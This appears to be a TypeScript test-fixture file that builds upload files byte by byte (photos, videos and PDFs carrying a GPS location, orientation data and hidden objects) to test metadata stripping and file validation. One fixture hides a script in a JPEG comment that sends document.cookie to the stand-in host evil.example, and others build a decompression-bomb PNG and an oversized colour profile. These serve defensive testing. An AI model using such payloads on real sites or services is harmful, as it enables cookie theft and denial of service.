/** Files as people bring them, honest and not, made here byte by byte so that a test says what is in them. */
import { deflateSync, crc32 } from 'node:zlib';
import { Transformer } from '@napi-rs/image';

/** Where the honest photo was taken; nobody may find it in what is kept. */
export const PLACE = '+48.8584+002.2945/';

/** A plain picture of so many pixels, left half red, right half blue. */
export async function picture(format: 'jpeg' | 'png' | 'webp', width = 64, height = 32): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 4);
  for (let i = 0; i < width * height; i++) {
    const isLeft = i % width < width / 2;
    pixels.set(isLeft ? [220, 30, 30, 255] : [30, 30, 220, 255], i * 4);
  }
  return Transformer.fromRgbaPixels(pixels, width, height)[format]();
}

/** As a phone writes it: lying on its side (orientation 6), with the place in EXIF and a comment. */
export async function phonePhoto(width = 64, height = 32): Promise<Buffer> {
  const jpeg = await picture('jpeg', width, height);
  const tiff = Buffer.alloc(26);
  tiff.write('MM\0*', 'latin1');
  tiff.writeUInt32BE(8, 4);
  tiff.writeUInt16BE(1, 8);
  // Orientation, SHORT, one value: 6.
  tiff.writeUInt16BE(0x0112, 10);
  tiff.writeUInt16BE(3, 12);
  tiff.writeUInt32BE(1, 14);
  tiff.writeUInt16BE(6, 18);
  const exif = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff, Buffer.from(PLACE)]);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    segment(0xe1, exif),
    segment(0xfe, Buffer.from(PLACE)),
    jpeg.subarray(2),
  ]);
}

function segment(marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([head, content]);
}

/** A photo whose comment is a web page. */
export async function scriptedPhoto(): Promise<Buffer> {
  const jpeg = await picture('jpeg');
  const page = Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>');
  return Buffer.concat([jpeg.subarray(0, 2), segment(0xfe, page), jpeg.subarray(2)]);
}

/** A few kilobytes that ask for 40,000 x 40,000 pixels. */
export function bomb(): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(40_000, 0);
  size.writeUInt32BE(40_000, 4);
  size.set([1, 0, 0, 0, 0], 8);
  return png([
    ['IHDR', size],
    ['IDAT', deflateSync(Buffer.alloc(1_000_000))],
    ['IEND', Buffer.alloc(0)],
  ]);
}

/** The same picture behind a header that speaks of ten pixels a side. */
export function extendedWebp(plain: Buffer): Buffer {
  const says = Buffer.from([10, 0, 0, 0, 0, 0, 0, 0, 9, 0, 0, 9, 0, 0]);
  const body = Buffer.concat([Buffer.from('WEBPVP8X'), says, plain.subarray(12)]);
  const head = Buffer.from('RIFF\0\0\0\0', 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body]);
}

/** With a colour profile that unpacks to a hundred times the file. */
export function profiled(plain: Buffer): Buffer {
  const profile = Buffer.concat([Buffer.from('x\0\0', 'latin1'), deflateSync(Buffer.alloc(1_000_000))]);
  const chunk = png([['iCCP', profile]]).subarray(8);
  return Buffer.concat([plain.subarray(0, 33), chunk, plain.subarray(33)]);
}

export function png(chunks: readonly (readonly [string, Buffer])[]): Buffer {
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    ...chunks.map(([type, content]) => {
      const body = Buffer.concat([Buffer.from(type, 'latin1'), content]);
      return Buffer.concat([uint32(content.length), body, uint32(crc32(body))]);
    }),
  ]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}

export function box(type: string, ...content: readonly Buffer[]): Buffer {
  const body = Buffer.concat(content);
  return Buffer.concat([uint32(body.length + 8), Buffer.from(type, 'latin1'), body]);
}

const FULL = uint32(0);

function track(handler: string, samples: { at: number; bytes: number }): Buffer {
  const table = box(
    'stbl',
    box('stsz', FULL, uint32(samples.bytes), uint32(1)),
    box('stsc', FULL, uint32(1), uint32(1), uint32(1), uint32(1)),
    box('stco', FULL, uint32(1), uint32(samples.at)),
  );
  const kind = box('hdlr', FULL, uint32(0), Buffer.from(handler, 'latin1'), Buffer.alloc(13));
  return box('trak', box('mdia', kind, box('minf', table)), box('udta', Buffer.from(PLACE)));
}

/** As a phone films it: a picture track, and a track of places beside it. */
export function phoneVideo(options: { seconds?: number; picture?: Buffer } = {}): Buffer {
  const { seconds = 4, picture: frames = Buffer.from('frames of the film') } = options;
  const brand = box('ftyp', Buffer.from('isom\0\0\0\0isommp42', 'latin1'));
  const data = box('mdat', frames, Buffer.from(PLACE));
  const header = box(
    'mvhd',
    FULL,
    uint32(0),
    uint32(0),
    uint32(1_000),
    uint32(seconds * 1_000),
    Buffer.alloc(80),
  );
  const at = brand.length + 8;
  const moov = box(
    'moov',
    header,
    track('vide', { at, bytes: frames.length }),
    track('meta', { at: at + frames.length, bytes: PLACE.length }),
    box('udta', box('\u00a9xyz', Buffer.from(PLACE))),
    box('meta', FULL, Buffer.from(`com.apple.quicktime.location.ISO6709${PLACE}`)),
  );
  return Buffer.concat([brand, data, moov, box('uuid', Buffer.alloc(16), Buffer.from(PLACE))]);
}

function element(id: number, ...content: readonly Buffer[]): Buffer {
  const body = Buffer.concat(content);
  const hex = id.toString(16);
  const size = Buffer.alloc(8);
  size.writeUIntBE(body.length, 2, 6);
  size.writeUInt8(1, 0);
  return Buffer.concat([Buffer.from(hex.padStart(hex.length + (hex.length % 2), '0'), 'hex'), size, body]);
}

/** As a browser records it: one cluster, a tag with the place; the clusters tell how long it is. */
export function recording(options: { seconds?: number; trackType?: number } = {}): Buffer {
  const { seconds = 4, trackType = 1 } = options;
  return Buffer.concat([
    element(0x1a45dfa3, element(0x4282, Buffer.from('webm'))),
    element(
      0x18538067,
      element(0x1549a966, element(0x2ad7b1, Buffer.from([0x0f, 0x42, 0x40]))),
      element(0x1654ae6b, element(0xae, element(0x83, Buffer.from([trackType])))),
      element(0x1f43b675, element(0xe7, uint32(seconds * 1_000)), element(0xa3, Buffer.from('frames'))),
      element(0x1254c367, element(0x7373, Buffer.from(PLACE))),
    ),
  ]);
}

/** One object a text; with the trailer that a reader starts from. */
export function pdf(...objects: readonly string[]): Buffer {
  const body = objects.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n${body}trailer<</Root 1 0 R /Info 2 0 R>>\n%%EOF\n`, 'latin1');
}

/** Objects compressed inside a stream, where a careless look does not find them. */
export function objectStream(text: string): string {
  const packed = deflateSync(Buffer.from(text, 'latin1'));
  return `<</Type /ObjStm /Filter /FlateDecode /Length ${packed.length}>>stream\n${packed.toString('latin1')}\nendstream`;
}
